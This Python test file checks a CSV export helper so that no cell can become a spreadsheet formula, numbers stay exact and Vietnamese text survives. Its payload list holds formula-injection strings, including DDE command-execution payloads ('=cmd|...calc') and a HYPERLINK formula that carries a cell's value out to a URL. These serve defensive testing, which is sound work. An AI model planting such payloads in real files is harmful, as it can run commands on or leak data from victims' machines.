"""CSV that spreadsheets read right: nothing becomes a formula, numbers and Vietnamese stay as they are."""

import csv
import io
import unicodedata
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from haidang_server.csv_text import (
    BYTE_ORDER_MARK,
    Cell,
    csv_cell,
    csv_line,
    csv_lines,
    guarded,
    unguarded,
)

TEXT = st.text(
    st.one_of(
        st.sampled_from("=+-@＝＋－＠﹦﹢﹣﹫'\"\t\r\n ;,\u00a0\u200b\ufeff\u3000\x00\x1f"),
        st.sampled_from("aăâbđeêghôơuưáàảãạấầẩẫậ01239"),
        st.characters(exclude_categories=["Cs"]),
    )
)
SEPARATED = st.text(st.sampled_from("=-@;|\t\r\n,\"' a＝\u200b"))
PAYLOADS = (
    "=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u3000=1", "\n=1",
    "＝1+1", "＋1", "－1", "＠A1", "﹦1", "\x00=1", "\x1f+1", '=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "'=1", "''=1", "=", "+", "-", "@", "－", "\t", "\r",
)  # fmt: skip


def is_formula(text: str) -> bool:
    """A spreadsheet that drops what is not seen in front, takes full-width signs for narrow ones, and an apostrophe for text."""
    seen = text.lstrip("\x00\t\r\n \u00a0\u3000\ufeff\u200b")
    while seen and unicodedata.category(seen[0]) in {"Cc", "Cf", "Zs", "Zl", "Zp"}:
        seen = seen[1:]
    return unicodedata.normalize("NFKC", seen[:1])[:1] in {"=", "+", "-", "@"}


def read(line: str) -> list[str]:
    (row,) = csv.reader(io.StringIO(line, newline=""), strict=True)
    return row


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_tempts_is_guarded(payload: str) -> None:
    (cell,) = read(csv_cell(payload) + "\r\n")
    assert cell.startswith("'")
    assert not is_formula(cell)


@given(TEXT)
def test_no_text_is_ever_a_formula(text: str) -> None:
    (cell,) = read(csv_line([text]))
    assert not is_formula(cell)
    assert not cell.startswith(("\t", "\r"))


@given(st.lists(st.one_of(TEXT, SEPARATED, st.none(), st.booleans()), min_size=1))
def test_no_cell_is_a_formula_whatever_separator_the_reader_assumes(cells: list[Cell]) -> None:
    line = csv_line(["9f86d0", *cells])
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
            assert [cell for cell in row if is_formula(cell)] == [], separator


@given(SEPARATED)
def test_what_was_guarded_behind_a_separator_can_be_had_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("separator", [";", "\t", "|", "\n", "\r\n", "\u2028"])
@pytest.mark.parametrize("payload", ['=HYPERLINK("http://x/?"&A1)', " +1", '"=1', "＝1", "-1", "@A1"])
def test_a_formula_behind_a_separator_is_guarded(separator: str, payload: str) -> None:
    assert guarded(f"ghi chú{separator}{payload}") == f"ghi chú{separator}'{payload}"


@given(TEXT)
def test_what_was_guarded_can_be_had_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(st.integers(-(2**53), 2**53))
def test_a_whole_number_stays_a_number_without_quotes(number: int) -> None:
    assert csv_cell(number) == str(number)


@given(st.integers(-(2**53), 2**53), st.integers(0, 7))
def test_a_decimal_stays_exact_and_without_exponent(number: int, decimals: int) -> None:
    value = Decimal(number).scaleb(-decimals)
    written = csv_cell(value)
    assert Decimal(written) == value
    assert set(written) <= set("-0123456789.")


@given(st.text(st.sampled_from("aăâbcdđeêghiklmnoôơpqrstuưvxyáàảãạắằẳẵặấầẩẫậéèẻẽẹếềểễệ ,.;\"'()0123456789")))
def test_vietnamese_stays_as_it_is(text: str) -> None:
    assert guarded(f"Ấp {text}") == f"Ấp {text}"
    assert read(csv_line([f"Ấp {text}"])) == [f"Ấp {text}"]


@given(st.lists(st.one_of(st.none(), st.booleans(), st.integers(), TEXT), min_size=2))
def test_a_row_has_as_many_cells_as_it_was_given(cells: list[Cell]) -> None:
    assert len(read(csv_line(cells))) == len(cells)


def test_codes_are_text_and_blank_is_not_zero() -> None:
    assert csv_line(["00901", None, 0, "", True, False]) == '"00901",,0,"",TRUE,FALSE\r\n'


def test_a_file_begins_with_a_byte_order_mark_and_its_lines_end_in_crlf() -> None:
    lines = list(csv_lines(("mã", "tên"), [("1", "Xã An")]))
    assert b"".join(lines).decode() == BYTE_ORDER_MARK + '"mã","tên"\r\n"1","Xã An"\r\n'
